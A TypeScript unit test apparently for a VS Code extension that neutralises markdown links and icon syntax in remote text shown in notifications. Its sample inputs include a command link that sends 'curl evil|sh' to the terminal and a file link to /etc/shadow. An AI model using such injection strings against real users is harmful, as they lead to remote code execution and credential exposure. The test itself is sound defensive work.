// Text from hosts and files shown in notifications: never a link or an icon, every character kept.
// The patterns are VS Code's own: the link pattern of parseLinkedText (src/vs/base/common/linkedText.ts,
// as shipped in VS Code 1.139, which notifications and input-box prompts use) and the icon syntax
// `$(name)` of renderLabelWithIcons. The e2e tests check the rendered notifications themselves.
import * as assert from 'node:assert/strict';
import { plainText } from '../../../src/vscode/plainText';

const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const VSCODE_ICON = /\$\([A-Za-z0-9-]+(?:~[A-Za-z]+)?\)/g;

/** What VS Code does to a notification's message before it looks for links. */
const asNotification = (text: string) => text.replace(/(\r\n|\n|\r)/gm, ' ').trim();
const links = (text: string) => [...asNotification(text).matchAll(VSCODE_LINK)].map((m) => m[0]);
const withoutZeroWidth = (text: string) => text.replace(/\u200b/g, '');

const HOSTILE = [
  'Received disconnect: [Retry](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  'sudo: [details](https://evil.example/x "a title")',
  'modprobe: [open](file:///etc/shadow) and [again](COMMAND:workbench.action.reloadWindow)',
  'split over lines: [Re\ntry](command:x.y) and [a]\n(command:x.y)',
  'nested [[x](command:a)](command:b)',
];

describe('plainText: remote text in a notification', () => {
  it('the hostile texts are links to VS Code as they are', () => {
    for (const text of HOSTILE.slice(0, 3)) assert.ok(links(text).length > 0, text);
  });

  it('leaves no link and no icon in them, and every character where it was', () => {
    for (const text of [...HOSTILE, 'spinner $(sync~spin) and $(error)']) {
      const shown = plainText(text);
      assert.deepEqual(links(shown), [], text);
      assert.deepEqual(asNotification(shown).match(VSCODE_ICON), null, text);
      assert.equal(withoutZeroWidth(shown), text, 'only invisible characters were added');
    }
  });

  it('changes nothing in ordinary text', () => {
    for (const text of [
      'gpu01: connection refused',
      'Not readable as `nvidia-smi topo -m` output: a.txt, line 3: [GPU0] (x)',
      'a (b) [c] $d',
      '',
    ]) {
      assert.equal(plainText(text), text);
    }
    assert.equal(plainText('sudo: 3 incorrect password attempts'), 'sudo: 3 incorrect password attempts');
  });
});
